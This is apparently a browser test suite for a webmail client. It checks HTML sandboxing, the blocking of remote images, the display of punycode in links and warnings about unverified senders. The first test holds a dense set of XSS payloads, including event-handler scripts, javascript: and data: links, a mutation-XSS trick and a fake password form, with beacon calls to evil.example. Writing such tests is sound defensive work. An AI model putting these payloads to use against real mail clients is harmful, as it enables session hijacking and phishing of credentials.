import assert from "node:assert/strict";
import { test } from "node:test";
import { openConversation, pageURL, sendMail, signIn, subjectOf, useBrowser } from "../stage.js";

const newVisitor = useBrowser();

const mark = "window.top.__ran = window.__ran = true; document.title = 'ran'; fetch('https://evil.example/ran')";
const hostile = `<html><head>
  <script>${mark}</script><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
  <base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
  <style>@import "https://evil.example/y.css"; body { background: url(https://evil.example/z.png) }</style></head>
<body onload="${mark}" background="https://evil.example/b.png">
  <p>Read me please.</p>
  <img src="x" onerror="${mark}"><img src="https://images.example/pixel.gif" width="1" height="1">
  <svg onload="${mark}"><script>${mark}</script><animate onbegin="${mark}" attributeName="x" dur="1s"/></svg>
  <iframe srcdoc="<script>${mark}</script>"></iframe><iframe src="javascript:${mark}"></iframe>
  <object data="https://evil.example/o"></object><embed src="https://evil.example/e">
  <form action="https://evil.example/form"><input name="password" autofocus onfocus="${mark}"><button>Sign in again</button></form>
  <a href="javascript:${mark}">first link</a> <a href="data:text/html,<script>${mark}</script>">second link</a>
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${mark}&gt;"></mglyph></table></mtext></math>
  <div style="position:fixed;inset:0;z-index:99999">cover</div>
  <video autoplay src="https://evil.example/v.mp4" onerror="${mark}"></video><details open ontoggle="${mark}">more</details>
  <template><img src=x onerror="${mark}"></template><noscript><img src="x" onerror="${mark}"></noscript>
</body></html>`;

test("a mail full of tricks runs nothing and calls nobody", async () => {
  const page = await newVisitor();
  const called = [];
  await page.context().route(/\.example\//, (route) => { called.push(route.request().url()); return route.abort(); });
  page.on("dialog", (dialog) => { called.push(`dialog ${dialog.message()}`); void dialog.dismiss(); });
  await sendMail({ subject: subjectOf(`<img src=x onerror=alert(1)> tricks`), from: '"<script>alert(1)</script>" <evil@example.org>', html: hostile });
  await signIn(page, "Owner");
  await page.locator("a.row", { hasText: "tricks" }).first().click();
  await page.getByRole("button", { name: "Show formatted" }).last().click();
  const frame = page.frameLocator('iframe[title="Formatted message"]');
  await frame.getByText("Read me please.").waitFor();
  assert.equal(await page.locator("iframe").getAttribute("sandbox"), "allow-same-origin allow-popups allow-popups-to-escape-sandbox");
  for (const name of ["first link", "second link"]) {
    const link = frame.getByText(name);
    if (await link.count()) await link.first().click({ force: true, noWaitAfter: true });
  }
  await page.getByRole("button", { name: "Show plain text" }).last().click();
  await page.locator("article .text").last().waitFor();
  assert.equal(await page.evaluate(() => "__ran" in window), false);
  assert.ok(page.url().startsWith(pageURL));
  assert.deepEqual(called, []);
  assert.deepEqual(page.faults, []);
});

test("pictures of other servers are fetched when asked for and not before; the mail's own are shown", async () => {
  const page = await newVisitor();
  const fetched = [];
  const pixel = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==", "base64");
  await page.context().route("https://images.example/**", (route) => {
    fetched.push(route.request().url());
    return route.fulfill({ contentType: "image/png", body: pixel });
  });
  const subject = await sendMail({
    subject: subjectOf("Pictures"),
    html: '<p>Two pictures</p><img alt="own" src="cid:own@example.org"><img alt="remote" width="10" height="10" src="https://images.example/p.png">',
    attachments: [{ filename: "own.png", content: pixel, cid: "own@example.org" }],
  });
  await signIn(page, "Agent");
  await openConversation(page, subject);
  await page.getByRole("button", { name: "Show formatted" }).click();
  const frame = page.frameLocator('iframe[title="Formatted message"]');
  const own = frame.getByAltText("own");
  await own.waitFor();
  await own.evaluate((img) => img.decode());
  assert.deepEqual(fetched, []);
  const asked = page.waitForResponse("https://images.example/**");
  await page.getByRole("button", { name: "Show remote images" }).click();
  await (await asked).finished();
  await frame.getByAltText("remote").evaluate((img) => img.decode());
});

test("a formatted mail is as tall as what it says, and its links tell where they lead", async () => {
  const page = await newVisitor();
  const lines = "<p>One line of many.</p>".repeat(60);
  const subject = await sendMail({ subject: subjectOf("Tall"), html: `${lines}<a href="https://b\u00fccher.example/x" title="https://bank.example/">https://bank.example/</a><p>The end.</p>` });
  await signIn(page, "Agent");
  await openConversation(page, subject);
  await page.getByRole("button", { name: "Show formatted" }).click();
  const frame = page.frameLocator('iframe[title="Formatted message"]');
  await frame.getByTitle("https://xn--bcher-kva.example/x").waitFor();
  await page.waitForFunction(() => {
    const frame = document.querySelector('iframe[title="Formatted message"]');
    const { scrollHeight } = frame.contentDocument.documentElement;
    return scrollHeight > 1000 && frame.clientHeight === scrollHeight;
  });
});

test("a mail that proves nothing about its sender says so", async () => {
  const page = await newVisitor();
  const subject = await sendMail({ subject: subjectOf("Trust me"), text: "It is really me.", verified: false });
  await signIn(page, "Agent");
  await openConversation(page, subject);
  await page.getByText("Unverified sender").waitFor();
  await page.getByRole("button", { name: "More about this message" }).click();
  await page.getByRole("menuitem", { name: "Why is this here?" }).click();
  await page.getByRole("dialog", { name: "Why is this here?" }).locator("li").first().waitFor();
});
